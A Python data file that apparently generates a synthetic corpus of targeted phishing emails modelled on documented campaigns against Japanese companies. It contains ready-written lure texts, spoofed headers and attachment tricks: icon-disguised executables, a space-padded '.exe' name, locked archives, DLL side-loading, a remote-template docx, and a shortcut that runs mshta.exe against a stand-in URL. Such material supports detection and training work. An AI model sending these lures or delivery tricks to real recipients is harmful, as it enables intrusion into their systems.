"""Targeted mail to firms, trade and media, 2011 to 2025."""
from recipe import Recipe, auth
from making import docx, pdf, program, zipped
from kit import Lzh, Pe, Rar5, SevenZip, agile, docs, icons, lnk, office

RED = (200, 30, 30)

RECIPES = [
    Recipe("t-eticket", "targeted", "JTB and Nikkei, June 2016: an e-ticket's confirmation in the name of a partner; PlugX and Elirks",
           "A partner's name and domain, a ticket's confirmation, a program with a folder's icon and a genuine PDF inside.", "航空券控え 添付のご連絡",
           "ticket@air-partner.example", name="例示航空 予約センター", hard=True, twin="m-travel", to="soumu@example.co.jp",
           date="Tue, 15 Mar 2016 13:03:45 +0900",
           body="お世話になっております。\n例示航空予約センターでございます。\n\nご依頼いただきました北京行き航空券のeチケット控えを添付いたします。\nご搭乗者名とお日にちをご確認の上、相違がございましたら本日17時までにご連絡ください。\n\n例示航空 予約センター 金子\n",
           client=("ns.rental-server.example", "203.0.113.27"), message_id="<56E789D1.4070305@air-partner.example>",
           headers=[auth("softfail", domain="air-partner.example")],
           attach=[("E-TKT控え.lzh", Lzh(level=1).add("E-TKT控え.exe", program(icons.folder(), 180000, packed=True, stamp=0x56E10000, overlay=pdf("E-TICKET"))).bytes())]),

    Recipe("t-partner-hijacked", "targeted", "J-CRAT, 2017 and 2018: mails from hijacked boxes of partners in talks that were going on",
           "From the partner's own server and in the talk itself; the sheet in the zip is a program.", "Re: Re: 納期回答の件(7月分)",
           "hosokawa@kikai-buhin.example", name="細川", twin="b-world-partner", hard=True, to="koubai@example.co.jp",
           date="Thu, 12 Oct 2017 10:51:08 +0900",
           body="山根様\n\nお世話になっております。機械部品の細川です。\n先日お送りした納期表に誤りがございましたので、訂正版をお送りいたします。\n3品目のうち K-118 は10月30日の出荷となります。申し訳ございません。\n\n細川\n\n"
                "> 細川様\n> 残り3品目の納期はいかがでしょうか。\n> 山根\n",
           client=("mail.kikai-buhin.example", "203.0.113.151"), message_id="<59DECB8C.3050809@kikai-buhin.example>",
           headers=[auth("pass", "pass", "none", "kikai-buhin.example"), ("References", "<59DB1D0E.1070505@example.co.jp>"), ("In-Reply-To", "<59DB1D0E.1070505@example.co.jp>")],
           attach=[("納期表_訂正.zip", zipped(("納期表_訂正.exe", program(icons.document(accent=(33, 115, 70)), 130000, packed=True))), "application/x-zip-compressed")]),

    Recipe("t-ppap-unknown", "targeted",
           "J-CRAT, report of the first half of fiscal 2018: the password in a second mail is common in targeted mail",
           "From a supplier's hijacked box: a locked zip whose names look harmless; the password is to follow.", "見積書の差し替えについて",
           "suzuki@trading.example", name="鈴木", hard=True, alone=False, twin="shape-ppap", date="Thu, 19 May 2016 17:24:00 +0900",
           body="例示商事 御中\n\nいつもお世話になっております。鈴木です。\n先日お送りした見積書に誤りがありましたので、差し替えをお願いいたします。\nパスワードは別途お送りいたします。\n",
           client=("mx.trading.example", "198.51.100.25"), message_id="<573D79E0.8010401@trading.example>",
           headers=[auth("pass", "pass", "pass", "trading.example")],
           attach=[("見積書(差替).zip", zipped(("見積書(差替).docx", office.docx_template("http://q.example.invalid/m.dotm", text="御見積書")), password="zK3-unknown-9"), "application/zip")]),

    Recipe("t-plant-series", "targeted",
           "J-CSIP, fourth quarter of 2017: 156 mails on equipment for plants, to makers in Japan, in English",
           "An inquiry on equipment of a plant from a real-looking engineering firm; a program in a zip.",
           "Request for Quotation - Gas Compressor Package, Project RAPID-77", "procurement@epc-engineering.example", name="M. Rahman",
           to="koubai@example.co.jp", charset="utf-8", date="Wed, 15 Nov 2017 07:46:30 +0000",
           body="Dear Sir,\n\nWe are pleased to invite you to submit your technical and commercial bid for the gas compressor package of the above project.\n"
                "The tender documents, data sheets and the vendor list are attached. Kindly acknowledge receipt and confirm your intention to bid by 22 November.\n\n"
                "Please note that bids shall be valid for 90 days and delivery is CIF Kuantan.\n\nM. Rahman\nLead Buyer, Rotating Equipment\n",
           client=("host9.webspace.example", "203.0.113.36"), message_id="<4c8f1b20d3a8@epc-engineering.example>",
           headers=[auth("none", domain="epc-engineering.example"), ("Reply-To", "procurement.epc@gmail.com")],
           attach=[("RFQ_RAPID-77_Data Sheets.zip", zipped(("RFQ_RAPID-77_Data Sheets.exe", program(icons.document(accent=RED), 100000, packed=True))), "application/zip")]),

    Recipe("t-nested-rar", "targeted", "Symantec and Secureworks, 2016 and 2017: Tick (Bronze Butler) sends nests of locked archives",
           "A zip with a locked rar and a text that tells its password; inside a program with blanks before its end.", "新製品の不具合写真について",
           "kubo_hinshitsu@yahoo.co.jp", name="久保", to="eigyo@example.co.jp", date="Mon, 20 Jun 2016 16:37:22 +0900",
           body="ご担当者様\n\n先日お電話した久保です。\n不具合の写真をまとめましたので、確認をお願いします。\nパスワードは同封のテキストにあります。\n",
           message_id="<20160620073722.40122.qmail@web33.mail.example>", headers=[auth("pass", "pass", "none", "yahoo.co.jp")],
           attach=[("不具合写真.zip", zipped(("不具合写真.rar", Rar5().add("不具合写真.jpg" + " " * 50 + ".exe", program(icons.document(), 24000), password="kubo620").bytes()),
                                       ("パスワード.txt", "パスワード: kubo620\r\n".encode("cp932"))), "application/zip")]),

    Recipe("t-job-first", "targeted", "NPA, first half of 2013: more than half of the talks of several turns ask about recruitment",
           "The first turn of a talk: a student asks about recruitment.", "採用に関する質問", "moriyama.job2013@yahoo.co.jp", name="森山 和也",
           hard=True, alone=False, to="jinji@example.co.jp", date="Tue, 09 Apr 2013 20:15:33 +0900",
           body="人事ご担当者様\n\nはじめてメールいたします。大学4年の森山和也と申します。\n貴社の中途および新卒の採用について質問があるのですが、このアドレスにお送りしてもよろしいでしょうか。\n\n森山 和也\n",
           message_id="<1365506133.77310.YahooMailNeo@web140.mail.example>", headers=[("X-Mailer", "YahooMailWebService/0.8.140.532")]),

    Recipe("t-job-second", "targeted", "NPA, first half of 2013: recruitment questions from free mail, then the file",
           "The second turn: the questions, as a program with a document's icon in a locked zip.", "Re: 採用に関する質問",
           "moriyama.job2013@yahoo.co.jp", name="森山 和也", to="jinji@example.co.jp", date="Thu, 11 Apr 2013 09:02:19 +0900",
           body="例示商事 人事ご担当者様\n\nお返事ありがとうございます。森山です。\n質問が長くなってしまったため、履歴書とあわせてファイルにまとめました。\n{password}\nお忙しいところすみませんが、よろしくお願いいたします。\n\n"
                "> 森山様\n> お問い合わせありがとうございます。ご質問はこちらのアドレスで承ります。\n",
           password_line="パスワードは生年月日の 19911103 です。", message_id="<1365638539.80021.YahooMailNeo@web140.mail.example>",
           headers=[("In-Reply-To", "<51657C0A.2090801@example.co.jp>")],
           attach=[("質問と履歴書.zip", zipped(("質問事項.exe", program(icons.document(), 90000, stamp=0x5163E000)), ("履歴書.doc", office.doc(text="履歴書 森山和也")), password="19911103"), "application/zip")]),

    Recipe("t-obituary", "targeted", "Unit 42, April 2015: DragonOK against makers in Japan, with obituaries among its lures",
           "An obituary; the program shows a document and brings another program.", "訃報のご連絡", "soumu-renraku@yahoo.co.jp", name="総務",
           to="eigyo@example.co.jp", date="Mon, 09 Feb 2015 08:34:57 +0900",
           body="各位\n\nご尊父様のご逝去の報に接し、謹んでお知らせいたします。\n通夜・告別式の日程は添付のとおりです。\n\n総務\n",
           message_id="<1423438497.10934.YahooMailNeo@web103.mail.example>", headers=[auth("pass", "pass", "none", "yahoo.co.jp")],
           attach=[("訃報.zip", zipped(("訃報.exe", program(icons.document(accent=(33, 115, 70)), 60000, overlay=docs.OLE + program(None, 40000)))), "application/zip")]),

    Recipe("t-sideload-7z", "targeted", "JPCERT/CC, 2017 to 2019: loaders beside genuine programs (RedLeaves, TSCookie)",
           "An inquiry about a product; in the 7z lie a signed viewer, a library and data beside the drawing.", "図面のご確認について",
           "design2@kouki-seisaku.example", name="光機製作 設計", to="eigyo@example.co.jp", charset="utf-8",
           date="Thu, 23 Aug 2018 11:55:40 +0900",
           body="ご担当者様\n\nお世話になります。光機製作の設計担当です。\n図面は専用ビューアが必要なため、同梱しております。展開後、viewer を起動してご確認ください。\n公差の件、来週前半までにご回答いただけると助かります。\n",
           client=("mail.kouki-seisaku.example", "203.0.113.44"), message_id="<5B7E21CC.90@kouki-seisaku.example>",
           headers=[auth("none", domain="kouki-seisaku.example")],
           attach=[("図面_KS-204.7z", SevenZip().add("図面_KS-204/viewer.exe", Pe(stamp=0x4E000000).icon(icons.logo()).version(CompanyName="Example Graphics Corp.", FileDescription="Viewer",
                    OriginalFilename="gview.exe").sign().bytes()).add("図面_KS-204/gvcore.dll", Pe(dll=True, stamp=0x5B7C0000).bytes()).add("図面_KS-204/gvcore.dat", docs.noise(30000)).add(
               "図面_KS-204/KS-204.pdf", pdf("図面 KS-204")).bytes(), "application/x-7z-compressed")]),

    Recipe("t-password-lnk", "targeted",
           "JPCERT/CC, July 2019: shortcuts named Password.txt beside locked documents, against dealers in currencies",
           "A locked document and, beside it, a shortcut that poses as the text of its password.", "Business plan for the joint venture",
           "a.kimura.ventures@gmail.com", name="A. Kimura", to="eigyo@example.co.jp", charset="utf-8",
           date="Wed, 10 Jul 2019 12:20:08 +0900",
           body="Hi,\n\nThank you for the talk last week. I have attached the business plan; the password is in the archive.\nPlease keep it confidential until the board meeting.\n\nA. Kimura\n",
           message_id="<CAF0wd8M@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("Business Plan.zip", zipped(("Business Plan.docx", agile(docx("business plan"), "x0-2231")), ("Password.txt.lnk", lnk("http://v.example.invalid/9", "C:\\Windows\\System32\\mshta.exe",
                    icon="C:\\Windows\\System32\\notepad.exe", show=7))), "application/zip")]),
]
